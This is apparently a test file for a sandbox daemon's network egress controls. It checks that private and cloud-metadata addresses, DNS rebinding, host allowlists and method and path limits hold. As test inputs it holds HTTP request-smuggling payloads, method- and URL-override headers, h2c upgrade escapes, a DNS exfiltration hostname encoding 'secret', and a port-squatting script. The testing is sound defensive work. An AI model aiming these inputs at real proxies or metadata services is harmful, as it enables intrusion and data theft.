/* The way out of a sandbox: who can be reached by what policy, on an internet made of network namespaces. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe } from 'node:test';

import { Api } from '../lib/api.mjs';
import { Daemon, until } from '../lib/daemon.mjs';
import { test } from '../lib/test.mjs';
import { curl, inside, sh } from './inside.mjs';
import { inOwnNetwork, Internet } from './internet.mjs';
import { installPackages, makePackages } from './packages.mjs';
import { HOST, METADATA, OTHER, PRIVATE, RESOLVER, WEB, WEB6 } from './zone.mjs';

const EGRESS_PORT = 64998; /* src/spawn/egress.c: FIRST_PORT */

/* Talks to an address by hand: what `bytes` (a Python literal) gets back, or the error. */
const talk = (address, port, bytes) => ['python3', '-c', `
import socket
s = socket.socket(socket.AF_INET6 if ':' in '${address}' else socket.AF_INET)
s.settimeout(60)
try:
    s.connect(('${address}', ${port}))
    s.sendall(${bytes})
    got = b''
    while True:
        piece = s.recv(65536)
        if not piece: break
        got += piece
    print(got.decode('latin1'))
except OSError as e:
    print('ERROR', type(e).__name__)
`];

if (inOwnNetwork(import.meta.url, 'the way out of a sandbox')) {
  describe('egress', () => {
    const internet = new Internet();
    let daemon;
    let api;

    before(async () => {
      await internet.start();
      daemon = new Daemon({ options: ['--egress-resolvers', RESOLVER, '--egress-deny-cidrs', '100.64.0.0/10', '--sandbox-max-sandboxes', '24'] });
      await daemon.start();
      api = new Api(daemon);
    });
    after(async () => {
      api.close();
      await daemon.stop();
      await internet.stop();
    });

    const { sandbox, egress, setPolicy, out, fails } = inside(() => api);

    describe('by default', () => {
      let id;
      before(async () => (id = await sandbox()));

      test('the public internet is there by name and address, in IPv4 and IPv6', async () => {
        for (const url of ['http://web.test/a', `http://${WEB}/a`, `http://[${WEB6}]/a`])
          assert.equal(JSON.parse(await out(id, curl(url))).url, '/a');
        assert.equal(JSON.parse(await out(id, curl('-6', 'http://web.test/'))).at, WEB6);
        assert.equal(JSON.parse(await out(id, curl('-k', 'https://web.test/'))).tls, 'web.test');
        assert.equal(JSON.parse(await out(id, sh("head -c 3000000 /dev/zero | curl -sS -m 60 -T - http://web.test/up"))).size, 3000000);
        assert.equal(await out(id, sh('curl -sS -m 100 http://web.test/bytes/50000000 | wc -c')), '50000000\n');
      });

      test('a server that speaks first is heard, and half-closed connections work', async () => {
        assert.equal(await out(id, sh(`exec 3<>/dev/tcp/${WEB}/7777; head -1 <&3; echo more >&3; head -1 <&3`)), '220 ready\nmore\n');
      });

      test('nothing but the public internet is reached, by address or by name', async () => {
        for (const address of [PRIVATE, METADATA, '[fd00:ec2::254]', '[fd12::1]', '100.64.0.9', HOST, `[::ffff:${PRIVATE}]`, '[64:ff9b::a01:203]'])
          await fails(id, curl('-o', '/dev/null', `http://${address}/`));
        for (const name of ['rebind.test', 'metadata.test', 'host.test', 'loop.test'])
          assert.match(await fails(id, curl(`http://${name}/`)), /Could not resolve host/);
        assert.match(await fails(id, curl(`http://${HOST}:${daemon.port}/health`)), /reset|connect/i);
        assert.match(await fails(id, curl('-L', 'http://web.test/redirect')), /reset|connect/i);
        assert.ok((await internet.log()).every(({ at }) => at !== PRIVATE && at !== METADATA));
        const { denied, counters } = await egress(id);
        const why = (address) => denied.find((entry) => entry.address === address)?.reason;
        assert.equal(why(PRIVATE), 'private');
        assert.equal(why(METADATA), 'metadata service');
        assert.equal(why('fd00:ec2::254'), 'metadata service');
        assert.equal(why('100.64.0.9'), 'denied by the operator');
        assert.equal(denied.find(({ host }) => host === 'rebind.test').reason, 'private');
        assert.ok(counters.deniedConnections >= 8 && counters.deniedQuestions >= 4);
      });

      test("the host's own address is refused even where it is public", async () => {
        execFileSync('ip', ['addr', 'add', '93.184.216.99/32', 'dev', 'wan']);
        try {
          assert.match(await fails(id, curl(`http://93.184.216.99:${daemon.port}/health`)), /reset|connect/i);
          assert.ok((await egress(id)).denied.some(({ reason }) => reason === 'an address of the host'));
        } finally {
          execFileSync('ip', ['addr', 'del', '93.184.216.99/32', 'dev', 'wan']);
        }
      });

      test('of a name with a private and a public address, the public one is told', async () => {
        assert.equal((await out(id, ['getent', 'ahostsv4', 'mixed.test'])).split(/\s/)[0], WEB);
      });

      test('questions go to the host\'s resolver whoever is asked, over UDP and TCP; other types and datagrams are refused', async () => {
        const ask = (server, transport, type) => `
import socket, struct
q = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3web\\4test\\0' + struct.pack('>HH', ${type}, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_${transport === 'udp' ? 'DGRAM' : 'STREAM'}); s.settimeout(60); s.connect(('${server}', 53))
s.send(q if '${transport}' == 'udp' else struct.pack('>H', len(q)) + q)
r = s.recv(600)
while '${transport}' == 'tcp' and len(r) < 2 + int.from_bytes(r[:2], 'big'): r += s.recv(600)
r = r if '${transport}' == 'udp' else r[2:]
print(r[3] & 15, r[7], '.'.join(map(str, r[-4:])))`;
        for (const server of ['8.8.8.8', '192.0.0.1', PRIVATE])
          for (const transport of ['udp', 'tcp'])
            assert.equal(await out(id, ['python3', '-c', ask(server, transport, 1)]), `0 1 ${WEB}\n`, `${server} ${transport}`);
        assert.match(await out(id, ['python3', '-c', ask('8.8.8.8', 'udp', 16)]), /^4 0 /);
        assert.match(await fails(id, ['python3', '-c', "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('8.8.8.8', 123))"]), /PermissionError/);
      });

      test('bytes, connections and denials are counted, for the sandbox and in the metrics', async () => {
        await until('the connections before have ended', async () => (await egress(id)).counters.openConnections === 0);
        const before = (await egress(id)).counters;
        await out(id, sh('curl -sS -o /dev/null http://web.test/bytes/100000'));
        await until('the connection has ended', async () => (await egress(id)).counters.openConnections === 0);
        const { counters } = await egress(id);
        assert.equal(counters.connections, before.connections + 1);
        assert.ok(counters.bytesIn - before.bytesIn > 100000 && counters.bytesIn - before.bytesIn < 101000);
        assert.match((await api.get('/metrics')).text, /^berm_egress_connections_total \d+$/m);
      });
    });

    describe('git, pip, npm and apt', () => {
      before(() => makePackages(internet.www));
      const install = (id) => installPackages((argv) => out(id, argv), 'http');

      test('work with the default policy', async () => install(await sandbox()));
      test('work where only their hosts are allowed', async () =>
        install(await sandbox({ egress: { mode: 'deny', hosts: ['other.test', { host: 'registry.test', methods: ['GET'] }] } })));
    });

    describe('a policy that names hosts', () => {
      let id;
      before(async () => (id = await sandbox({ egress: { mode: 'deny', hosts: ['web.test', '*.sub.test',
        { host: 'other.test', methods: ['GET'], paths: ['/ok/*'] }] } })));

      test('lets their names through, in any spelling', async () => {
        assert.equal(JSON.parse(await out(id, curl('http://web.test/x'))).at, WEB);
        assert.equal(JSON.parse(await out(id, curl('-k', 'https://web.test/x'))).tls, 'web.test');
        assert.equal(JSON.parse(await out(id, curl('http://a.sub.test/x'))).host, 'a.sub.test');
        for (const host of ['WEB.test', 'web.test:80', 'web.test.'])
          assert.equal(JSON.parse(await out(id, curl('-H', `Host: ${host}`, `http://${WEB}/x`))).at, WEB);
      });

      test('refuses everything else, and asks nobody about it', async () => {
        /* But for a question of the tests before that was put again meanwhile. */
        const asked = async () => (await internet.log()).filter(({ question }) => !['web.test', 'a.sub.test'].includes(question));
        await asked();
        assert.match(await fails(id, curl('http://registry.test/')), /Could not resolve/);
        assert.match(await fails(id, curl('http://c2VjcmV0.exfiltrate.test/')), /Could not resolve/);
        assert.match(await fails(id, curl('http://sub.test/')), /Could not resolve/);
        assert.deepEqual(await asked(), []);
        assert.equal(await out(id, curl(`http://${OTHER}/`)), 'egress: no host name told\n');
        assert.match(await fails(id, curl('-k', `https://${WEB}/`)), /reset|connect/i);
        assert.match(await fails(id, curl('-k', '--resolve', `registry.test:443:${OTHER}`, 'https://registry.test/')), /reset|connect/i);
        assert.equal(await out(id, curl('--resolve', `registry.test:80:${OTHER}`, 'http://registry.test/')), 'egress: host not allowed\n');
        assert.equal(await out(id, talk(WEB, 7777, "b'hello\\n'")), 'ERROR ConnectionResetError\n');
        assert.deepEqual(await asked(), []);
      });

      test('dials an address of the name that was told, not the one that a sandbox chose', async () => {
        assert.equal(JSON.parse(await out(id, curl('--resolve', `web.test:80:${OTHER}`, 'http://web.test/front'))).at, WEB);
        assert.equal(JSON.parse(await out(id, curl('-k', '--resolve', `web.test:443:${OTHER}`, 'https://web.test/front'))).at, WEB);
      });

      test('reads every request of a connection, however it is hidden', async () => {
        const first = 'GET /1 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n';
        const answer = await out(id, talk(WEB, 80, `b'${first}GET /2 HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'`));
        assert.match(answer, /"\/1"/);
        assert.match(answer, /403 Forbidden[^]*another host on the same connection/);
        for (const smuggled of [
          'POST / HTTP/1.1\\r\\nHost: web.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n',
          'GET / HTTP/1.1\\r\\nHost: web.test\\r\\nHost: other.test\\r\\n\\r\\n',
          'GET http://other.test/ HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n',
          'GET / HTTP/1.1\\r\\nHost: web.test\\r\\n X: y\\r\\n\\r\\n',
          'GET / HTTP/1.1\\nHost: web.test\\n\\n',
          'CONNECT other.test:80 HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n',
        ]) {
          await internet.log();
          const text = await out(id, talk(WEB, 80, `b'${smuggled}'`));
          assert.doesNotMatch(text, /"method"/, smuggled);
          assert.deepEqual((await internet.log()).filter(({ url }) => url), [], smuggled);
        }
      });

      test('holds methods and paths, in clear text', async () => {
        assert.equal(JSON.parse(await out(id, curl('http://other.test/ok/1'))).url, '/ok/1');
        assert.equal(await out(id, curl('http://other.test/no')), 'egress: path not allowed\n');
        assert.equal(await out(id, curl('-d', 'x', 'http://other.test/ok/1')), 'egress: method not allowed\n');
        assert.equal(await out(id, curl('--path-as-is', 'http://other.test/ok/../no')), 'egress: ambiguous path\n');
      });

      test('holds them also for a request that has fields to ask for others', async () => {
        for (const field of ['X-HTTP-Method-Override: DELETE', 'x-http-method: PUT', 'X_Method_Override: PATCH'])
          assert.equal(await out(id, curl('-H', field, 'http://other.test/ok/1')), 'egress: a field asks for another method\n');
        for (const field of ['X-Original-URL: /no', 'x-rewrite-url: /no'])
          assert.equal(await out(id, curl('-H', field, 'http://other.test/ok/1')), 'egress: a field asks for another path\n');
        assert.equal(JSON.parse(await out(id, curl('-H', 'X-HTTP-Method-Override: GET', 'http://other.test/ok/1'))).method, 'GET');
      });

      /* After a 101 nothing is read, and HTTP/2 would ask for any host and path. The server here would say 101 to all of them. */
      test('is not left by an upgrade to another protocol', async () => {
        for (const fields of ['Connection: upgrade\\r\\nUpgrade: echo', 'Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA',
          'Connection: upgrade\\r\\nUpgrade: websocket, h2c', 'Connection: upgrade\\r\\nUpgrade: websocket\\r\\nUpgrade: h2c', 'Upgrade: h2c']) {
          const text = await out(id, ['python3', '-c', `
import socket
s = socket.create_connection(('other.test', 80), 60)
s.sendall(b'GET /ok/1 HTTP/1.1\\r\\nHost: other.test\\r\\n${fields}\\r\\n\\r\\nGET /no HTTP/1.1\\r\\nHost: web.test\\r\\n\\r\\n')
got = b''
while piece := s.recv(65536): got += piece
print(got.count(b'HTTP/1.1 200'), got.count(b'HTTP/1.1 403'), b' 101 ' in got)`]);
          assert.equal(text, '1 1 False\n', fields);
        }
      });

      test('lets a WebSocket through as an upgrade', async () => {
        const text = await out(id, ['python3', '-c', `
import socket
s = socket.create_connection(('web.test', 80), 60)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\nConnection: upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n')
print(s.recv(200).split()[1].decode())
s.sendall(b'ping'); print(s.recv(10).decode())`]);
        assert.equal(text, '101\nping\n');
      });
    });

    test('a policy changes live: what it does not allow any more ends, the rest goes on', async () => {
      const id = await sandbox();
      await out(id, sh(`nohup python3 -c "
import socket, time
a = socket.create_connection(('${WEB}', 7777)); b = socket.create_connection(('${OTHER}', 7777))
a.recv(99); b.recv(99)
open('/tmp/open', 'w').close()
b.settimeout(100)
try: text = repr(b.recv(99))
except OSError as e: text = type(e).__name__
a.sendall(b'still'); text += ' ' + a.recv(99).decode()
open('/tmp/result.new', 'w').write(text); import os; os.rename('/tmp/result.new', '/tmp/result')
" >/dev/null 2>&1 & `));
      await until('both are open', async () => (await api.exec(id, ['test', '-e', '/tmp/open'])).code === 0);
      await setPolicy(id, { mode: 'deny', cidrs: [`${WEB}/32`] });
      await until('it has seen the end', async () => (await api.exec(id, ['test', '-e', '/tmp/result'])).code === 0);
      assert.match(await out(id, ['cat', '/tmp/result']), /^(b''|ConnectionResetError) still$/);
      assert.match(await fails(id, curl(`http://${OTHER}/`)), /reset|connect/i);
      assert.equal(JSON.parse(await out(id, curl(`http://${WEB}/`))).at, WEB);
      assert.equal((await api.delete(`/v1/sandbox/${id}/egress`)).json.isDefault, true);
      assert.equal(JSON.parse(await out(id, curl(`http://${OTHER}/`))).at, OTHER);
    });

    test('without a network there is none, and no policy to set', async () => {
      const id = await sandbox({ network: 'none' });
      assert.equal((await egress(id)).state, 'none');
      assert.match(await out(id, ['python3', '-c', `
import socket
try: socket.create_connection(('${WEB}', 80), 5)
except OSError as e: print(e.strerror)`]), /unreachable/);
      assert.equal((await api.put(`/v1/sandbox/${id}/egress`, '{"mode":"allow"}')).status, 409);
      assert.equal((await api.put(`/v1/sandbox/${id}`, '{"network":"internet"}')).status, 409);
    });

    test('what could not be kept is refused', async () => {
      const id = await sandbox();
      for (const [policy, message] of [[{ mode: 'allow', hosts: ['a.com'] }, /would change nothing/], [{ mode: 'deny', cidrs: ['10.0.0.0/8'] }, /private/],
        [{ mode: 'deny', headers: {} }, /not a known member/], [{ mode: 'deny', hosts: [{ host: 'a.com', inject: {} }] }, /not a known member/]]) {
        const response = await api.put(`/v1/sandbox/${id}/egress`, JSON.stringify(policy));
        assert.equal(response.status, 400, response.text);
        assert.match(response.json.error, message);
        assert.equal((await api.put(`/v1/sandbox/${await api.newId()}`, JSON.stringify({ egress: policy }))).status, 400);
      }
      assert.equal((await egress(id)).isDefault, true);
    });

    test('berm sets and shows networks and policies', async () => {
      const program = path.resolve(process.env.BERM_BUILD ?? 'build', 'berm');
      const berm = (...args) => execFileSync(program, args, { encoding: 'utf8', stdio: 'pipe', env: { ...process.env, BERM_URL: daemon.url } });
      assert.equal(JSON.parse(berm('run', '--image', 'base', '--', 'curl', '-sS', '-m', '60', 'http://web.test/')).at, WEB);
      assert.throws(() => berm('run', '--image', 'base', '--network', 'none', '--', 'curl', '-sS', '-m', '60', `http://${WEB}/`), { status: 7 });
      assert.throws(() => berm('run', '--image', 'base', '--egress', '{"mode":"deny"}', '--', 'curl', '-sS', '-m', '60', 'http://web.test/'), { status: 6 });
      const id = berm('create', '--image', 'base').trim();
      berm('egress', 'set', id, '{"mode":"deny","hosts":["web.test"]}');
      assert.deepEqual(JSON.parse(berm('egress', 'show', id)).policy, { mode: 'deny', hosts: ['web.test'] });
      berm('egress', 'reset', id);
      assert.equal(JSON.parse(berm('egress', 'show', id)).isDefault, true);
      assert.throws(() => berm('egress', 'set', id, '{"mode":"maybe"}'), /mode must be/);
      berm('rm', id);
    });

    test('without a resolver there are no names, and nothing opens', async () => {
      const deaf = await new Daemon({ options: ['--egress-resolvers', '9.9.9.10', '--sandbox-max-sandboxes', '8'], poolSize: 0 }).start();
      const other = new Api(deaf);
      try {
        const id = await other.newId();
        const allowed = { mode: 'deny', hosts: ['web.test'] };
        assert.equal((await other.put(`/v1/sandbox/${id}`, JSON.stringify({ image: 'base', egress: allowed }))).status, 201);
        const hopeless = (...args) => curl('-m', '8', ...args);
        assert.notEqual((await other.exec(id, hopeless('http://web.test/'))).code, 0);
        assert.notEqual((await other.exec(id, hopeless('--resolve', `web.test:80:${WEB}`, 'http://web.test/'))).code, 0);
        assert.notEqual((await other.exec(id, hopeless('-k', `https://${WEB}/`))).code, 0);
      } finally {
        other.close();
        await deaf.stop();
      }
    });

    /* D7: berm-spawn is made to fail where the kernel would refuse the rules. */
    describe('where the rules do not load', () => {
      const root = path.resolve(import.meta.dirname, '../../..');
      const steps = [...fs.readFileSync(path.join(root, 'src/spawn/step.h'), 'utf8').matchAll(/^ +X\((\w+), "/gm)].map(([, name]) => name);

      /* After so many times, of which the first is the daemon asking what the host can do. */
      async function withoutRules(after) {
        const broken = await new Daemon({
          poolSize: 0,
          options: ['--spawn', path.resolve(process.env.BERM_BUILD ?? 'build', 'src/spawn/berm-spawn-faults'), '--egress-resolvers', RESOLVER, '--sandbox-max-sandboxes', '8'],
          env: { BERM_SPAWN_FAIL_AT: String(steps.indexOf('EGRESS_RULES')), BERM_SPAWN_FAIL_AFTER: String(after) },
        }).start();
        return { broken, other: new Api(broken) };
      }

      test('from the start, sandboxes have no network, and that is told', async () => {
        const { broken, other } = await withoutRules(0);
        try {
          const id = await other.newId();
          assert.equal((await other.put(`/v1/sandbox/${id}`, JSON.stringify({ image: 'base' }))).status, 201);
          assert.equal((await other.get(`/v1/sandbox/${id}/egress`)).json.state, 'down');
          for (const address of [WEB, `[${WEB6}]`, PRIVATE, METADATA, HOST]) assert.equal((await other.exec(id, curl(`http://${address}/`))).code, 7, address);
          assert.equal((await other.exec(id, curl('http://web.test/'))).code, 6);
        } finally {
          other.close();
          await broken.stop();
        }
      });

      test('later, a sandbox that would have a network is not made', async () => {
        const { broken, other } = await withoutRules(1);
        try {
          const id = await other.newId();
          const refused = await other.put(`/v1/sandbox/${id}`, JSON.stringify({ image: 'base', start: true }));
          const run = await other.exec(id, ['true']);
          assert.ok(refused.status >= 500 || run.status >= 500, `${refused.status} ${run.status}`);
          assert.notEqual((await other.get(`/v1/sandbox/${id}`)).json.state, 'running');
          const walled = await other.newId();
          assert.equal((await other.put(`/v1/sandbox/${walled}`, JSON.stringify({ image: 'base', network: 'none' }))).status, 201);
          assert.equal((await other.exec(walled, ['true'])).code, 0);
        } finally {
          other.close();
          await broken.stop();
        }
      });

      /* The only renewal that loads rules: for other ports, as somebody inside has ours. */
      test('when the way out of a running sandbox is renewed, it has none until they load', async () => {
        const faults = { BERM_SPAWN_FAIL_AT: String(steps.indexOf('EGRESS_RULES')), BERM_SPAWN_FAIL_AFTER: '1' };
        const mark = `squatter-${process.pid}`;
        const squatter = `
import socket, sys, time
def listen(port):
    s = socket.socket(socket.AF_INET6)
    s.bind(('::', port))
    s.listen()
    return s
while True:
    try:
        ours = listen(${EGRESS_PORT})
        break
    except OSError:
        time.sleep(0.01)
told = listen(40404)
time.sleep(10000)`;
        const own = await new Daemon({
          poolSize: 0,
          options: ['--spawn', path.resolve(process.env.BERM_BUILD ?? 'build', 'src/spawn/berm-spawn-faults'), '--egress-resolvers', RESOLVER, '--sandbox-max-sandboxes', '8'],
        }).start();
        let asked = new Api(own);
        const again = async (env) => {
          asked.close();
          own.env = env;
          await own.start();
          asked = new Api(own);
        };
        try {
          const id = await asked.newId();
          const state = async () => (await asked.get(`/v1/sandbox/${id}/egress`)).json.state;
          const reach = async () => (await asked.exec(id, curl(`http://${WEB}/`))).code;
          assert.equal((await asked.put(`/v1/sandbox/${id}`, JSON.stringify({ image: 'base' }))).status, 201);
          assert.equal(await reach(), 0);
          await asked.put(`/v1/sandbox/${id}/file/workspace/squatter.py`, squatter);
          await asked.exec(id, sh(`nohup python3 squatter.py ${mark} >/dev/null 2>&1 &`));
          const pid = await until('it runs', () => fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name)).find((name) => {
            try {
              const words = fs.readFileSync(`/proc/${name}/cmdline`, 'latin1').split('\0');
              return words[0] === 'python3' && words.includes(mark);
            } catch { return false; /* it has ended meanwhile */ }
          }), 60000);
          await own.end('SIGKILL');
          await until('it has the port', () => / [0-9A-F]{32}:9DD4 [0-9A-F:]+ 0A /.test(fs.readFileSync(`/proc/${pid}/net/tcp6`, 'latin1')), 60000);
          await again(faults);
          await until('it is told', () => own.log('egress.down').length > 0, 60000);
          assert.equal(await state(), 'down');
          assert.notEqual(await reach(), 0);
          assert.deepEqual(await own.end(), [0, null]);
          await again({});
          await until('the way out is there again', async () => await state() === 'up', 60000);
          assert.equal(await reach(), 0);
        } finally {
          asked.close();
          await own.stop();
        }
      });
    });

    test('a sandbox cannot take more connections than it may have', async () => {
      const few = await new Daemon({ options: ['--egress-resolvers', RESOLVER, '--egress-max-connections', '8', '--sandbox-max-sandboxes', '8'], poolSize: 0 }).start();
      const other = new Api(few);
      try {
        const id = await other.newId();
        await other.put(`/v1/sandbox/${id}`, JSON.stringify({ image: 'base' }));
        const result = await other.exec(id, ['python3', '-c', `
import socket
held = [socket.create_connection(('${WEB}', 7777), 60) for _ in range(40)]
heard = 0
for i, s in enumerate(held):
    s.settimeout(60 if i < 8 else 0.3) # the first that are taken, and those that wait
    try: heard += len(s.recv(99)) > 0
    except OSError: pass
print(heard)
for s in held[:8]: s.close()
print(len(held[8].recv(99)) > 0 if held[8].settimeout(60) is None else '')`]);
        assert.equal(result.out, '8\nTrue\n', result.err);
      } finally {
        other.close();
        await few.stop();
      }
    });

    test('a sandbox and its policy survive the death of the daemon; meanwhile nothing leaves', async () => {
      const id = await sandbox({ egress: { mode: 'deny', hosts: ['web.test'] } });
      await out(id, curl('http://web.test/'));
      await out(id, sh(`nohup bash -c 'while ! test -e /tmp/stop; do curl -sf -m 1 -o /dev/null http://${OTHER}/ && touch /tmp/leaked; sleep 0.05; done' >/dev/null 2>&1 &`));
      await daemon.end('SIGKILL');
      api.close();
      await daemon.start();
      api = new Api(daemon);
      await until('the way out is up again', async () => (await egress(id)).state === 'up');
      await out(id, ['touch', '/tmp/stop']);
      assert.equal(JSON.parse(await out(id, curl('http://web.test/after'))).url, '/after');
      assert.equal(await out(id, curl(`http://${OTHER}/`)), 'egress: no host name told\n');
      assert.notEqual((await api.exec(id, ['test', '-e', '/tmp/leaked'])).code, 0);
      assert.deepEqual((await egress(id)).policy, { mode: 'deny', hosts: ['web.test'] });
    });
  });
}
